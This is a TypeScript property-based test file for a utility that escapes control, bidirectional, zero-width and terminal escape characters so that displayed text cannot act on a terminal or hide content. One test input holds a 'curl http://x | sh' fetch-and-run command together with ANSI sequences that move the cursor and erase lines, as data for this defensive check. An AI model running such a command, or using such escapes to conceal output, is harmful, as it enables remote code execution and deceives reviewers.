import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { hasHiddenCharacters, visibleJson, visibleText } from "../../src/util/visibleText";
import { FAMILY, HIDING_RANGES, hidingIn, isHiding } from "../support/hidingCharacters";

/** One character: mostly hiding ones (from every listed range), else any code point. */
const hidingChar = fc.constantFrom(...HIDING_RANGES).chain(([lo, hi]) => fc.integer({ min: lo, max: hi })).map((cp) => String.fromCodePoint(cp));
const anyChar = fc.string({ unit: "binary", minLength: 1, maxLength: 1 });
const text = fc.string({ unit: fc.oneof(hidingChar, anyChar, fc.constantFrom("\\", "x", "u", "{", "1", "b", "[")), maxLength: 60 });
const keep = fc.subarray(["\n", "\t", "\r", "\u202e"]).map((k) => k.join(""));
/** Letters, marks, digits, punctuation, symbols and spaces: what a person sees as it is. */
const printable = fc.string({ unit: "binary", maxLength: 60 }).map((s) => [...s].filter((ch) => /[\p{L}\p{M}\p{N}\p{P}\p{S}\p{Zs}]/u.test(ch)).join(""));

/** Reads the escapes back (only for texts without a backslash of their own). */
const unescape = (s: string) =>
  s.replace(/\\(?:x([0-9a-f]{2})|u\{([0-9a-f]+)\}|u([0-9a-f]{4})|([tnr]))/g, (_, x, braced, u, named) =>
    named !== undefined ? ({ t: "\t", n: "\n", r: "\r" } as Record<string, string>)[named]! : String.fromCodePoint(parseInt(x ?? braced ?? u, 16)),
  );

describe("visibleText: control and hiding characters are shown, never acted on", () => {
  it("leaves no hiding character outside `keep`", () => {
    fc.assert(
      fc.property(text, keep, (s, k) => {
        expect(hidingIn(visibleText(s, k), k)).toEqual([]);
      }),
      { numRuns: 2000 },
    );
  });

  it("escapes every character of every listed range", () => {
    for (const [lo, hi] of HIDING_RANGES) {
      for (let cp = lo; cp <= hi; cp++) {
        const ch = String.fromCodePoint(cp);
        const shown = visibleText(`a${ch}b`);
        expect(hidingIn(shown), `U+${cp.toString(16)}`).toEqual([]);
        expect(shown).toMatch(/^a\\(x[0-9a-f]{2}|u[0-9a-f]{4}|u\{[0-9a-f]{5}\}|[tnr])b$/);
      }
    }
  });

  it("keeps printable text as it is, a backslash included", () => {
    fc.assert(
      fc.property(printable, (s) => {
        expect(visibleText(s)).toBe(s);
        expect(hasHiddenCharacters(s)).toBe(false);
      }),
      { numRuns: 1000 },
    );
    expect(visibleText("C:\\x1b \\u202e")).toBe("C:\\x1b \\u202e");
  });

  it("is idempotent", () => {
    fc.assert(
      fc.property(text, keep, (s, k) => {
        const once = visibleText(s, k);
        expect(visibleText(once, k)).toBe(once);
      }),
      { numRuns: 1000 },
    );
  });

  it("loses nothing: the escapes read back as the original text", () => {
    fc.assert(
      fc.property(text.filter((s) => !s.includes("\\")), keep, (s, k) => {
        expect(unescape(visibleText(s, k))).toBe(s);
      }),
      { numRuns: 1000 },
    );
  });

  it("says whether it would change the text", () => {
    fc.assert(
      fc.property(text, keep, (s, k) => {
        expect(hasHiddenCharacters(s, k)).toBe(visibleText(s, k) !== s);
      }),
    );
  });

  it("writes the family a terminal acts on as short escapes", () => {
    expect(visibleText("+curl http://x | sh\x1b[1A\x1b[2K\x1b]0;ok\x07\r")).toBe("+curl http://x | sh\\x1b[1A\\x1b[2K\\x1b]0;ok\\x07\\r");
    expect(visibleText("\x9b2J\x9d0;t\x9c\x7f")).toBe("\\x9b2J\\x9d0;t\\x9c\\x7f");
    expect(visibleText("a\u202eb\u2066c\u200bd\ufeff\u{e0041}")).toBe("a\\u202eb\\u2066c\\u200bd\\ufeff\\u{e0041}");
    expect(visibleText("a\tb\nc", "\n\t")).toBe("a\tb\nc");
    expect(visibleText("a\tb\nc")).toBe("a\\tb\\nc");
    for (const ch of FAMILY) expect(isHiding(ch.codePointAt(0)!)).toBe(true);
  });
});

describe("visibleJson: JSON text with no raw hiding character that parses to the same value", () => {
  const value = fc.dictionary(text, fc.oneof(text, fc.array(text, { maxLength: 4 }), fc.integer()), { maxKeys: 5 });
  it("round-trips and shows nothing raw but its own newlines", () => {
    fc.assert(
      fc.property(value, (v) => {
        const json = visibleJson(v);
        expect(JSON.parse(json)).toEqual(v);
        expect(hidingIn(json, "\n")).toEqual([]);
        expect(visibleText(json, "\n")).toBe(json);
      }),
      { numRuns: 1000 },
    );
  });
  it("writes DEL, C1 and format characters as \\u escapes", () => {
    expect(visibleJson({ d: "\x1b\x7f\x9b\u202e\u{e0041}" }, 0)).toBe('{"d":"\\u001b\\u007f\\u009b\\u202e\\udb40\\udc41"}');
  });
});
